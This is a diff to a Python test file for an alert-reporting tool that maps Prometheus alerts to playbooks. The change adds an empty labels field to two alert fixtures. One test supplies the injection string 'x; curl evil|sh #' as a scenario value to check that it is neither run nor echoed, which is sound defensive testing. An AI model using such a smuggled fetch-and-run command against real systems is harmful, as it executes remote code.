@@ -23,7 +23,14 @@ def test_hosts_that_gave_no_answer():
 
 
 def test_alerts_count_without_any_host():
-    alert = {"name": "DatabaseDown", "state": "firing", "severity": "P0", "summary": "x", "scenario": "service_restart"}
+    alert = {
+        "name": "DatabaseDown",
+        "state": "firing",
+        "severity": "P0",
+        "summary": "x",
+        "scenario": "service_restart",
+        "labels": {},
+    }
     found = report(surveys={}, prometheus={"alerts": [alert], "series": []})
     assert (found["severity"], found["next"]) == ("P0", "playbooks/service_restart.yml")
 
@@ -36,7 +43,7 @@ def test_prometheus_that_cannot_be_asked_is_a_sign():
 
 def test_a_label_is_no_command():
     nasty = "x; curl evil|sh #"
-    alert = {"name": "X", "state": "firing", "severity": "P0", "summary": "@channel", "scenario": nasty}
+    alert = {"name": "X", "state": "firing", "severity": "P0", "summary": "@channel", "scenario": nasty, "labels": {}}
     found = report(surveys={}, prometheus={"alerts": [alert], "series": []})
     assert (found["severity"], found["next"], found["scenarios"]) == ("P0", "", [])
     assert "curl" not in found["page"]
